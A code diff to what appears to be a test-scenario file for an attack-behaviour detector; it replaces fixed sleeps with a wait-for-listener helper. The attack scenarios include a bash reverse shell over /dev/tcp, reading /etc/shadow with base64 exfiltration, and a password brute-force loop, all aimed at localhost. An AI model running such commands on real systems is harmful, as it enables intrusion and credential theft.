@@ -17,6 +17,8 @@ class Scenario:
 
 
 _HTTP_UP = "for i in $(seq 50); do (exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null && break; sleep 0.05; done\n"
+# a one-connection server: wait until it listens without connecting (a fixed sleep raced on a loaded host)
+_LISTEN_UP = "for i in $(seq 200); do ss -Hltn 'sport = :{port}' | grep -q . && break; sleep 0.05; done\n"
 
 BENIGN = [
     Scenario("gcc_build", "benign", r"""cd {dir}
@@ -125,8 +127,7 @@ try:
     while c.recv(4096): pass
 except OSError: pass
 " &
-sleep 0.3
-bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1' 2>/dev/null
+""" + _LISTEN_UP + r"""bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1' 2>/dev/null
 wait
 """),
     Scenario("read_shadow", "attack", r"""cd {dir}
@@ -136,8 +137,8 @@ s.bind(('127.0.0.1', {port})); s.listen(1); c, _ = s.accept()
 while c.recv(4096): pass
 " &
 cat /etc/shadow /etc/passwd > loot 2>/dev/null; grep -h ':\$' /etc/shadow > hashes 2>/dev/null
-ls -la /root/.ssh 2>/dev/null; base64 loot > loot.b64; sleep 0.2
-bash -c 'cat loot.b64 > /dev/tcp/127.0.0.1/{port}'
+ls -la /root/.ssh 2>/dev/null; base64 loot > loot.b64
+""" + _LISTEN_UP + r"""bash -c 'cat loot.b64 > /dev/tcp/127.0.0.1/{port}'
 wait
 """, needs_root=True),
     Scenario("useradd_ns", "attack", r"""cd {dir} && mkdir -p etc && cp -a /etc/passwd /etc/shadow /etc/group /etc/gshadow /etc/login.defs etc/ 2>/dev/null
@@ -153,8 +154,7 @@ for _ in range(60):
     ok = hashlib.sha256(line.encode()).hexdigest() == '0' * 64
     c.sendall(b'OK\n' if ok else b'FAIL\n'); c.close()
 " &
-sleep 0.3
-for p in $(seq 60); do exec 3<>/dev/tcp/127.0.0.1/{port} || break; echo "root:pass$p" >&3; read -r r <&3; exec 3>&-; done
+""" + _LISTEN_UP + r"""for p in $(seq 60); do exec 3<>/dev/tcp/127.0.0.1/{port} || break; echo "root:pass$p" >&3; read -r r <&3; exec 3>&-; done
 wait
 """),
     Scenario("ransomware", "attack", r"""cd {dir} && mkdir -p docs
